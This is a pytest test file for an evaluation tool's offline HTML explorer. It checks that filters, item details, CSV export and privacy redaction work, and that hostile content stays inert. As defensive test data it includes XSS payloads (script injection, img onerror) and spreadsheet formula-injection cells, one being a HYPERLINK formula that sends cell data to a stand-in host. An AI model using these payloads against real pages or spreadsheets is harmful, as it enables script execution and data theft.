"""``evalreg view``: the offline per-item explorer, opened from the file system in a real
headless Chromium: its filters show the rows the records say they should, an item's
detail shows every candidate's output and verdicts, and injected markup stays text."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from test_judges_human import JUDGE_CRITERION, JUDGE_PIN

from evalreg.cli import main
from evalreg.graders.llm_judge import JUDGE_INSTRUCTIONS
from evalreg.registry.tree import GitTree
from evalreg.report.explorer import explorer_html, script_json
from evalreg.results.records import ItemRecord, read_items

from conftest import Repo, assert_refused, label_of, replace_tree, template_from_live
from support import browser
from support.explorer_data import synthetic
from support.llm_server import LLMServer

needs_browser = pytest.mark.skipif(
    not browser.available() and not os.environ.get("EVALREG_REQUIRE_BROWSER"),
    reason="no chromium and chromedriver (Debian: apt-get install chromium chromium-driver)",
)

INJECTED = '</script><script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">'
TITLE = "Message labelling <img src=x onerror=window.__pwned=3>"
CANDIDATES = ("rules", "mini")


def injecting(request) -> str:
    """The model: right on every item but m-001, where it answers with markup."""
    text = request.body["messages"][-1]["content"]
    return INJECTED if text.endswith("1") else label_of(request)


def regressing(request) -> str:
    """The model after its pin changed: m-000 now gets the wrong label."""
    text = request.body["messages"][-1]["content"]
    return json.dumps({"label": "a"}) if text.endswith("0") else injecting(request)


def _explored(live: Repo, server: LLMServer) -> None:
    live.write(
        "registry/selections/labels.yaml",
        live.read("registry/selections/labels.yaml").replace(
            "use_case: Message labelling", f"use_case: '{TITLE}'"
        ),
    )
    server.responder = injecting
    assert main(["-C", str(live.root), "run"]) == 0
    live.commit("results")
    server.responder = regressing
    live.write(
        "registry/models/mini.yaml",
        live.read("registry/models/mini.yaml").replace("temperature: 0", "temperature: 0.5"),
    )
    assert main(["-C", str(live.root), "run"]) == 0
    live.commit("a warmer pin")


@pytest.fixture(scope="module")
def explored_template(tmp_path_factory, live_template: Path, server_port: int) -> Path:
    """Two committed runs: the second regresses m-000 for mini; m-001's output is markup."""
    return template_from_live(tmp_path_factory, live_template, server_port, _explored)


@pytest.fixture
def explored(live: Repo, explored_template: Path) -> Repo:
    return replace_tree(live, explored_template)


def records(repo: Repo, candidate: str) -> list[ItemRecord]:
    return read_items((repo.root / f"reports/results/labels/{candidate}.items.jsonl").read_bytes())


def page_data(html: str) -> dict:
    found = re.search(r'<script type="application/json" id="explorer-data">(.*?)</script>', html)
    assert found, "no data element"
    return json.loads(found.group(1))


URL_ATTRS = {"src", "href", "srcset", "action", "formaction", "data", "poster", "background"}
PAGE_TAGS = {"html", "head", "meta", "title", "style", "body", "header", "h1", "span", "div"}
PAGE_TAGS |= {"p", "label", "select", "input", "button", "main", "noscript", "script"}


def parsed(page: str) -> list[tuple[str, list[str]]]:
    """Every element of ``page``: its tag and attribute names."""
    found: list[tuple[str, list[str]]] = []

    class Parser(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, [name for name, _ in attrs]))

    Parser().feed(page)
    return found


# ---------------------------------------------------------------- the file
def test_view_writes_one_self_contained_page_per_use_case(explored: Repo, cli):
    result = cli(explored, "view")
    assert result.code == 0, result.err
    page = explored.read("reports/explorer/labels.html")
    # Nothing is loaded from anywhere: no element with a URL or a handler, no CSS import.
    elements = parsed(page)
    assert not [
        (t, a) for t, attrs in elements for a in attrs if a in URL_ATTRS or a.startswith("on")
    ]
    assert {t for t, _ in elements} <= PAGE_TAGS
    assert "url(" not in page and "@import" not in page
    assert "<img" not in page and "<script>window" not in page  # the injected markup is text
    scripts = re.findall(r"<script>(.*?)</script>", page, re.S)
    styles = re.findall(r"<style>(.*?)</style>", page, re.S)
    assert len(scripts) == 1 and len(styles) == 1
    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page).group(1)
    assert "default-src 'none'" in csp

    def pinned(text: str) -> str:
        return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"

    assert f"script-src {pinned(scripts[0])}" in csp
    assert f"style-src {pinned(styles[0])}" in csp
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
    # The script never parses text as HTML or code.
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("):
        assert sink not in scripts[0]
    data = page_data(page)
    assert [c["id"] for c in data["candidates"]] == list(CANDIDATES)
    assert [i["id"] for i in data["items"]] == ["m-000", "m-001", "m-002", "m-003"]
    # The markup is in the data, escaped: no "<" anywhere in the element's text.
    mini = data["samples"][CANDIDATES.index("mini")]
    assert mini[1][0]["output"] == INJECTED
    assert "<" not in page.split('id="explorer-data">')[1].split("</script>")[0]


def test_the_page_is_the_same_bytes_for_the_same_inputs(explored: Repo, cli, tmp_path):
    assert cli(explored, "view", "-o", str(tmp_path / "one")).code == 0
    assert cli(explored, "view", "labels", "-o", str(tmp_path / "two")).code == 0
    assert (tmp_path / "one/labels.html").read_bytes() == (
        tmp_path / "two/labels.html"
    ).read_bytes()


def test_script_json_cannot_close_its_element():
    text = script_json({"a": "</script><!-- & \u2028\u2029 -->"})
    assert "<" not in text and ">" not in text and "&" not in text
    assert "\u2028" not in text and "\u2029" not in text
    assert json.loads(text) == {"a": "</script><!-- & \u2028\u2029 -->"}


def test_view_at_a_revision_shows_that_revisions_outputs(explored: Repo, cli, tmp_path):
    first = explored.git("rev-parse", "HEAD~1").strip()
    assert cli(explored, "view", "--rev", first, "-o", str(tmp_path)).code == 0
    data = page_data((tmp_path / "labels.html").read_text())
    assert data["label"] == f"revision {first[:12]}"
    mini = data["candidates"].index(next(c for c in data["candidates"] if c["id"] == "mini"))
    # At the first revision mini still labelled m-000 right.
    assert data["samples"][mini][0][0]["output"] == json.dumps({"label": "b"})
    assert data["passes"][mini][0] == "1"


def test_the_detail_data_holds_the_request_and_verdicts(explored: Repo, cli):
    assert cli(explored, "view").code == 0
    data = page_data(explored.read("reports/explorer/labels.html"))
    assert data["requests"][0][2] == [
        ["system", "Answer with JSON."],
        ["user", "Message: message 2"],
    ]
    rules = data["samples"][0]
    recorded = {r["item"]: r for r in records(explored, "rules")}
    for n, item in enumerate(data["items"]):
        (sample,) = rules[n]
        record = recorded[item["id"]]
        assert sample["level"] == record["level"]
        assert [c[0] for c in sample["criteria"]] == sorted(record["criteria"])
        assert [c[1] for c in sample["criteria"]] == [
            record["criteria"][c]["passed"] for c in sorted(record["criteria"])
        ]
        assert sample["output"] == json.dumps({"label": "a"})


def test_an_unknown_use_case_is_refused(explored: Repo, cli):
    assert_refused(explored, cli, "view", "nope", expect=("unknown use case 'nope'", "labels"))


# ---------------------------------------------------------------- in a browser
@pytest.fixture(scope="module")
def driver():
    with browser.chromium() as d:
        yield d


def open_page(driver, path: Path) -> None:
    driver.get(path.resolve().as_uri())
    driver.get_log("browser")  # a fresh page: forget what earlier pages logged
    assert driver.execute_script("return document.body.dataset.ready") == "1"


def choose(driver, select_id: str, text: str) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    Select(driver.find_element(By.ID, select_id)).select_by_visible_text(text)


def click_item(driver, item: str) -> None:
    driver.execute_script(
        "[...document.querySelectorAll('#layer .row')]"
        ".find(r => r.querySelector('.c-id').textContent === arguments[0]).click()",
        item,
    )


def shown_rows(driver) -> tuple[str, list[str]]:
    count = driver.execute_script("return document.getElementById('count').textContent")
    ids = driver.execute_script(
        "return [...document.querySelectorAll('#layer .row .c-id')].map(e => e.textContent)"
    )
    return count, ids


def passes(recs: list[ItemRecord]) -> dict[str, bool]:
    return {r["item"]: r["error"] is None and r["level"] == "correct" for r in recs}


@needs_browser
def test_filters_show_the_rows_the_records_say(explored: Repo, cli, driver):
    first = explored.git("rev-parse", "HEAD~1").strip()
    assert cli(explored, "view", "--base", first).code == 0
    open_page(driver, explored.root / "reports/explorer/labels.html")
    rules, mini = records(explored, "rules"), records(explored, "mini")
    every = sorted(r["item"] for r in rules)

    def expect(ids: list[str]) -> None:
        assert shown_rows(driver) == (f"{len(ids)} of {len(every)} items", sorted(ids))

    expect(every)
    choose(driver, "f-slice", "common")
    expect([r["item"] for r in rules if "common" in r["tags"]])
    choose(driver, "f-slice", "all items")
    choose(driver, "f-cand", "mini")
    choose(driver, "f-level", "unacceptable")
    expect([r["item"] for r in mini if r["level"] == "unacceptable"])
    choose(driver, "f-level", "any level")
    choose(driver, "f-crit", "label")
    choose(driver, "f-verdict", "failed")
    expect([r["item"] for r in mini if r["criteria"].get("label", {}).get("passed") is False])
    choose(driver, "f-verdict", "passed")
    expect([r["item"] for r in mini if r["criteria"].get("label", {}).get("passed") is True])
    choose(driver, "f-crit", "any criterion")
    choose(driver, "f-error", "with an error")
    expect([r["item"] for r in mini if r["error"] is not None])
    choose(driver, "f-error", "errors or not")
    choose(driver, "f-cand", "any candidate")
    choose(driver, "f-flip-a", "rules")  # the other side is the first other candidate
    assert driver.execute_script("return document.getElementById('f-flip-b').value") == "1"
    p_rules, p_mini = passes(rules), passes(mini)
    flips = [i for i in every if p_rules[i] != p_mini[i]]
    assert flips, "the fixture should make the candidates disagree"
    expect(flips)
    choose(driver, "f-flip-dir", "rules passes, mini fails")
    expect([i for i in flips if p_rules[i]])
    choose(driver, "f-flip-a", "no flip filter")
    # Against the first revision: mini regressed on m-000, and on nothing else.
    then = read_items(
        GitTree(explored.root, first).read_data("reports/results/labels/mini.items.jsonl")
    )
    before = passes(then)
    choose(driver, "f-rev", "passed there, fails here")
    expect([i for i in every if before[i] and not p_mini[i]])
    assert shown_rows(driver)[1] == ["m-000"]
    choose(driver, "f-rev", "failed there, passes here")
    expect([i for i in every if not before[i] and p_mini[i]])
    driver.find_element("id", "reset").click()
    expect(every)
    search = driver.find_element("id", "f-search")
    search.send_keys("m-00")
    search.send_keys("3")
    expect(["m-003"])


@needs_browser
def test_an_items_detail_shows_each_candidates_output_and_verdicts(explored: Repo, cli, driver):
    assert cli(explored, "view").code == 0
    open_page(driver, explored.root / "reports/explorer/labels.html")
    click_item(driver, "m-002")
    detail = driver.find_element("id", "detail").text
    assert "m-002" in detail and "Message: message 2" not in detail  # the request is folded
    outputs = driver.execute_script(
        "return [...document.querySelectorAll('#detail pre.output')].map(e => e.textContent)"
    )
    stored = {c: next(r for r in records(explored, c) if r["item"] == "m-002") for c in CANDIDATES}
    assert outputs == [json.dumps({"label": "a"}), json.dumps({"label": "b"})]
    for candidate, record in stored.items():
        assert candidate in detail
        for cid, verdict in record["criteria"].items():
            assert cid in detail and verdict["detail"] in detail
    driver.execute_script(
        "document.querySelectorAll('#detail details').forEach(d => d.open = true)"
    )
    assert "Message: message 2" in driver.find_element("id", "detail").text
    driver.find_element("tag name", "body").send_keys("j")  # the next row
    assert driver.find_element("css selector", "#detail h2").text == "m-003"
    driver.find_element("tag name", "body").send_keys("k")
    assert driver.find_element("css selector", "#detail h2").text == "m-002"


@needs_browser
def test_markup_in_an_output_and_a_title_is_inert(explored: Repo, cli, driver):
    from selenium.common.exceptions import NoAlertPresentException

    assert cli(explored, "view").code == 0
    open_page(driver, explored.root / "reports/explorer/labels.html")
    click_item(driver, "m-001")
    outputs = driver.execute_script(
        "return [...document.querySelectorAll('#detail pre.output')].map(e => e.textContent)"
    )
    assert INJECTED in outputs
    assert driver.execute_script("return typeof window.__pwned") == "undefined"
    assert driver.execute_script("return document.querySelectorAll('img').length") == 0
    assert driver.execute_script("return document.scripts.length") == 2  # data and the page's own
    assert TITLE in driver.find_element("tag name", "h1").text
    with pytest.raises(NoAlertPresentException):
        driver.switch_to.alert.text  # noqa: B018
    errors = [e for e in driver.get_log("browser") if e["level"] == "SEVERE"]
    assert errors == []


@needs_browser
def test_a_large_explorer_draws_only_the_rows_in_view(driver, tmp_path):
    data = synthetic(10_000, 5)
    path = tmp_path / "large.html"
    path.write_text(explorer_html(data), encoding="utf-8")
    open_page(driver, path)
    count, ids = shown_rows(driver)
    assert count == "10,000 of 10,000 items"
    assert 0 < len(ids) < 100
    driver.execute_script("document.getElementById('rows').scrollTop = 1e9")
    driver.execute_script("document.getElementById('rows').dispatchEvent(new Event('scroll'))")
    assert shown_rows(driver)[1][-1] == "item-09999"
    choose(driver, "f-slice", "edge")
    edge = sum("edge" in item["tags"] for item in data["items"])
    assert shown_rows(driver)[0] == f"{edge:,} of 10,000 items"
    columns = (
        "return [...document.querySelectorAll('#detail .column h3')]"
        ".map(e => e.firstChild.textContent)"
    )
    assert driver.execute_script(columns) == [f"candidate-{c}" for c in range(5)]
    choose(driver, "f-flip-a", "candidate-3")  # a flip's two sides, side by side
    assert driver.execute_script(columns) == ["candidate-3", "candidate-0"]


# ---------------------------------------------------------------- judges, human grades, privacy
REASON = (
    "The answer names the queue plainly and stays calm, which is what the criterion asks of it."
)


def judging(request) -> str:
    """Candidates label as ``label_of`` does; the judge passes label "a" with a long reason."""
    if request.body["messages"][0]["content"] == JUDGE_INSTRUCTIONS:
        answer = request.body["messages"][1]["content"]
        return json.dumps({"score": 0.9 if '"a"' in answer else 0.2, "reason": REASON})
    return label_of(request)


@needs_browser
def test_judges_reasons_in_full_and_human_grades_by_rater(live: Repo, server, cli, driver):
    server.responder = judging
    live.write("registry/models/judge.yaml", JUDGE_PIN.format(url=server.base_url))
    live.write(
        "registry/rubrics/labels.yaml",
        live.read("registry/rubrics/labels.yaml").replace(
            "levels:",
            JUDGE_CRITERION + "    slices: [common]\n" + "levels:",  # items m-001, m-003
        ),
    )
    assert cli(live, "run").code == 0
    rows = ["key,alice,bob"] + [
        f"{r['key']},pass,{'fail' if r['item'] == 'm-001' else 'pass'}"
        for r in records(live, "rules")
    ]
    live.write("grades/ok.csv", "\n".join(rows) + "\n")
    live.write(
        "registry/rubrics/labels.yaml",
        live.read("registry/rubrics/labels.yaml").replace(
            "levels:",
            "  - id: ok_human\n    description: Humans find it right.\n"
            "    grader:\n      type: human\n      file: grades/ok.csv\n      min_raters: 2\n"
            "levels:",
        ),
    )
    assert cli(live, "run", "--offline").code == 0
    assert cli(live, "view").code == 0
    data = page_data(live.read("reports/explorer/labels.html"))
    rules = data["samples"][CANDIDATES.index("rules")]
    assert rules[1][0]["judges"] == {"tone": REASON}  # the record's detail is cut at 80
    assert rules[1][0]["human"] == {"ok_human": [["alice", True], ["bob", False]]}
    assert "human" not in data["samples"][CANDIDATES.index("mini")][1][0]  # nobody graded mini
    assert "judges" not in rules[0][0]  # the judge's criterion does not apply to m-000
    open_page(driver, live.root / "reports/explorer/labels.html")
    click_item(driver, "m-001")
    detail = driver.find_element("id", "detail").text
    assert f"judge on tone: {REASON}" in detail
    assert "human grades on ok_human: alice pass, bob fail" in detail


def test_with_privacy_snippets_off_the_page_holds_no_text(explored: Repo, cli, tmp_path):
    explored.write("registry/evalreg.yaml", "schema_version: 1\nprivacy:\n  snippets: false\n")
    assert cli(explored, "view").code == 0
    page = explored.read("reports/explorer/labels.html")
    data = page_data(page)
    assert data["texts"] is False
    assert all(set(i) == {"id", "tags"} for i in data["items"])
    assert all(r is None for prompt in data["requests"] for r in prompt)
    samples = [s for column in data["samples"] for item in column for s in item]
    assert samples and not any("output" in s for s in samples)
    assert "message 1" not in page and "window.__pwned=1" not in page
    assert "privacy.snippets is off" in page
    assert cli(explored, "view", "--with-text", "-o", str(tmp_path)).code == 0
    assert page_data((tmp_path / "labels.html").read_text())["items"][1]["input"] == {
        "text": "message 1"
    }


def test_the_tasks_redacted_fields_stay_redacted(explored: Repo, cli):
    explored.write(
        "registry/tasks/labels.yaml",
        explored.read("registry/tasks/labels.yaml").replace(
            "rubric: labels", "rubric: labels\nredact: [input.text, output.label]"
        ),
    )
    assert cli(explored, "view").code == 0
    page = explored.read("reports/explorer/labels.html")
    data = page_data(page)
    assert data["items"][2]["input"] == {"text": "[redacted]"}
    assert data["requests"][0][2][1] == ["user", "Message: [redacted]"]
    rules = data["samples"][CANDIDATES.index("rules")]
    assert rules[2][0]["output"] == json.dumps({"label": "[redacted]"})
    assert {c[3] for c in rules[2][0]["criteria"]} == {"[redacted]"}  # details quote outputs
    assert "message 2" not in page


def row_cells(driver, item: str) -> list[str]:
    return driver.execute_script(
        "const row = [...document.querySelectorAll('#layer .row')]"
        ".find(r => r.querySelector('.c-id').textContent === arguments[0]);"
        "return [...row.querySelectorAll('.c-cand')].map(e => e.textContent)",
        item,
    )


def search(driver, text: str) -> None:
    driver.execute_script(
        "const f = document.getElementById('f-search'); f.value = arguments[0];"
        "f.dispatchEvent(new Event('input'))",
        text,
    )


@needs_browser
def test_the_grid_shows_outputs_and_the_search_reads_inputs_and_outputs(
    explored: Repo, cli, driver
):
    assert cli(explored, "view").code == 0
    open_page(driver, explored.root / "reports/explorer/labels.html")
    levels = [{r["item"]: r["level"] for r in records(explored, c)} for c in CANDIDATES]
    cells = row_cells(driver, "m-002")
    assert [cell.split(" · ")[0] for cell in cells] == [lv["m-002"] for lv in levels]
    assert all(re.fullmatch(r'\w+ · \{"label": "[ab]"\}', cell) for cell in cells)
    assert row_cells(driver, "m-001")[1].endswith(" · " + INJECTED)  # as text, never markup
    search(driver, "MESSAGE 3")  # an input, whatever the case
    assert shown_rows(driver) == ("1 of 4 items", ["m-003"])
    search(driver, "window.__pwned=1")  # an output
    assert shown_rows(driver) == ("1 of 4 items", ["m-001"])
    search(driver, "m-00")
    assert shown_rows(driver)[0] == "4 of 4 items"
    assert driver.execute_script("return typeof window.__pwned") == "undefined"


@needs_browser
def test_the_filtered_rows_download_as_csv(explored: Repo, cli, driver):
    import csv
    import io

    assert cli(explored, "view").code == 0
    open_page(driver, explored.root / "reports/explorer/labels.html")
    choose(driver, "f-cand", "mini")
    search(driver, "m-001")
    rows = list(csv.reader(io.StringIO(driver.execute_script("return evalregExplorer.csv()"))))
    head = ["use_case", "item", "tags", "candidate", "sample", "output", "level"]
    tail = ["latency_ms", "input_tokens", "output_tokens", "cost_usd", "error"]
    assert rows[0] == [*head, "criterion:valid_json", "criterion:label", *tail]
    [record] = [r for r in records(explored, "mini") if r["item"] == "m-001"]
    [row] = rows[1:]
    assert row[:7] == ["labels", "m-001", "common", "mini", "0", INJECTED, record["level"]]
    verdicts = {cid: "pass" if v["passed"] else "fail" for cid, v in record["criteria"].items()}
    assert row[7:9] == [verdicts.get("valid_json", ""), verdicts.get("label", "")]
    assert row[9:12] == [str(record["latency_ms"]), *map(str, record["tokens"].values())][:3]


HOSTILE_CELLS = {
    "0": '=HYPERLINK("http://x.example/?"&A1, "click")',
    "1": "\x1b[31mred\x1b[0m and a bell\x07, then\r\nanother line",
    "2": '-5, "quoted", and a tab\there',
    "3": "\t@SUM(1)",
}


@needs_browser
def test_the_pages_csv_is_the_export_byte_for_byte(live: Repo, server, cli, driver):
    """Every row, then the rows of one candidate on one slice: the page's download holds
    what `evalreg export` writes for them, formulas, controls and quotes included."""
    import csv
    import io

    server.responder = lambda request: HOSTILE_CELLS[request.body["messages"][-1]["content"][-1]]
    assert cli(live, "run", "--no-push").code == 0
    live.commit("results")
    assert cli(live, "view").code == 0
    exported = cli(live, "export", "labels", "--format", "csv")
    assert exported.code == 0, exported.err
    open_page(driver, live.root / "reports/explorer/labels.html")
    page = driver.execute_script("return evalregExplorer.csv()")
    assert page == exported.out
    assert "'=HYPERLINK" in page and "\x1b" not in page and "'-5, " in page
    choose(driver, "f-cand", "mini")
    choose(driver, "f-slice", "edge")
    filtered = driver.execute_script("return evalregExplorer.csv()")
    rows = list(csv.reader(io.StringIO(exported.out)))
    kept = [r for r in rows[1:] if r[3] == "mini" and "edge" in r[2].split()]
    assert len(kept) == 2
    assert list(csv.reader(io.StringIO(filtered))) == [rows[0], *kept]
